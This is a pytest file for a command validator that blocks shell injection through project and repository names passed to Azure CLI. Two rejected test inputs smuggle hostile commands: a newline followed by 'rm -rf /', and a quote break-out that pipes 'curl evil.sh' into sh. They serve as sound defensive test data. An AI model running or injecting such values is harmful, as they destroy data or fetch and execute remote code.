"""
Tests for Command Validator

Checks that project and repository names cannot inject shell syntax into
Azure CLI command lines.
"""

import re

import pytest

from azc.security import CommandValidator, ValidationError


class TestValidateSafeArgument:
    """Test argument validation"""

    @pytest.mark.parametrize("arg", ["Platform", "Mobile App", "web-client_v2", "team.repo", "Ünïcode"])
    def test_safe_arguments(self, arg):
        assert CommandValidator.validate_safe_argument(arg) == arg

    @pytest.mark.parametrize(
        "arg,char",
        [
            ("a && b", "&"),
            ("a | b", "|"),
            ("a; b", ";"),
            ("`id`", "`"),
            ("$HOME", "$"),
            ("<input", "<"),
            ('say "hi"', '"'),
            ("back\\slash", "\\"),
        ],
    )
    def test_dangerous_characters(self, arg, char):
        with pytest.raises(ValidationError, match=re.escape(f"dangerous character: {char!r}")):
            CommandValidator.validate_safe_argument(arg)

    def test_newline_rejected(self):
        with pytest.raises(ValidationError, match="dangerous character"):
            CommandValidator.validate_safe_argument("repo\nrm -rf /")

    def test_null_byte_rejected(self):
        with pytest.raises(ValidationError, match="dangerous character"):
            CommandValidator.validate_safe_argument("repo\x00")

    def test_empty_rejected(self):
        with pytest.raises(ValidationError, match="cannot be empty"):
            CommandValidator.validate_safe_argument("")

    def test_too_long_rejected(self):
        with pytest.raises(ValidationError, match="too long"):
            CommandValidator.validate_safe_argument("a" * (CommandValidator.MAX_LENGTH + 1))


class TestQuote:
    """Test quoting"""

    def test_wraps_in_double_quotes(self):
        assert CommandValidator.quote("Mobile App") == '"Mobile App"'

    def test_validates_before_quoting(self):
        with pytest.raises(ValidationError):
            CommandValidator.quote('x" && curl evil.sh | sh; "')
